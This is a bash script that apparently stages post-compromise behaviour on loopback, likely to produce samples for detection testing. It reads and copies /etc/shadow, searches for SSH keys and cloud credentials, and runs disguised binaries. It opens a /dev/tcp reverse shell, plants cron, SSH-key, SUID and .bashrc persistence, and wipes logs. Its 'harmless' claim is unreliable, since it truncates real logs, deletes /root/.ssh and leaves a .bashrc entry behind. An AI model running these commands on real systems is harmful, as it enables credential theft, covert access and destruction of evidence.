#!/bin/bash
# Behaves like somebody who has got in: looks around, reads password hashes, drops and runs a binary, opens
# a shell over the network, plants ways to come back, and wipes the logs. All of it harmless: the network is
# loopback, the key is none, and every trace is removed at the end. Run it through samples/record.sh.
set -u

look_around() {
    id
    uname -a
    ps aux 2>/dev/null || ls /proc >/dev/null
    cat /etc/passwd >/dev/null
    find / -xdev -perm -4000 -type f >/dev/null 2>&1
}

take_credentials() {
    cat /etc/shadow >/dev/null
    grep -c root /etc/gshadow
    cp /etc/shadow /tmp/.s
    find /root /home -name 'id_rsa' -o -name '.aws' >/dev/null 2>&1
}

drop_and_run() {
    mkdir -p /tmp/.cache
    cp /bin/true /tmp/.cache/kworkerd
    chmod 0755 /tmp/.cache/kworkerd
    /tmp/.cache/kworkerd
    cp /bin/true /dev/shm/.x
    /dev/shm/.x
}

# The other end: takes one connection, says two commands, reads what comes back.
listener='
    use IO::Socket::INET;
    my $server = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die;
    open(my $ready, ">", "/tmp/.ready"); close($ready);
    my $client = $server->accept;
    print $client "id\n"; print $client "head -1 /etc/shadow\n"; print $client "exit\n";
    $client->flush;
    while (<$client>) { }
'

call_home() {
    perl -e "$listener" &
    local other_end=$!
    while [ ! -e /tmp/.ready ]; do sleep 0.05; done
    bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
    wait "$other_end"
}

persist() {
    printf '* * * * * root /tmp/.cache/kworkerd\n' >/etc/cron.d/apt-daily
    mkdir -p -m 0700 /root/.ssh
    printf 'ssh-ed25519 AAAA-not-a-key intruder\n' >>/root/.ssh/authorized_keys
    cp /bin/true /usr/bin/.sysd
    chmod u+s /usr/bin/.sysd
    printf '/usr/bin/.sysd &\n' >>/root/.bashrc
}

wipe() {
    : >/var/log/auth.log
    truncate -s 0 /var/log/wtmp
    shred -u /root/.bash_history 2>/dev/null
    ln -sf /dev/null /root/.bash_history
    rm -rf /var/log/apt
}

clean_up() {
    rm -rf /etc/cron.d/apt-daily /root/.ssh /usr/bin/.sysd /tmp/.cache /tmp/.s /tmp/.ready /dev/shm/.x /root/.bash_history
}

look_around
take_credentials
drop_and_run
call_home
persist
wipe
clean_up
